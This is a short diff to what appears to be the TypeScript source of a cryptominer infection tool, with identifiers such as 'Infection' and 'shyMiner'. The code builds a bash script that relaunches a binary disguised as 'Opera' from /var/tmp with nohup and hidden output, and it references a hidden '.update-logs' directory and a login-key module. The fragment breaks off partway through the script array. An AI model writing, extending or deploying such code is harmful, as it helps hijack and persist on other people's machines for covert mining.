@@ -1,10 +1,11 @@
-import { type Infection, minerWords, shyMiner } from '../host-part.ts'
+import { endsHere, type Infection, minerWords, shyMiner } from '../host-part.ts'
 import { loginKey } from '../login-key.ts'
 
 const den = '/var/tmp/Documents'
 const waiting = '/var/tmp/.update-logs'
 const banner = [
   '#!/bin/bash',
+  endsHere,
   `if ! pgrep -x Opera >/dev/null; then`,
   `  cd ${den} && nohup ./Opera >/dev/null 2>&1 &`,
   'fi',
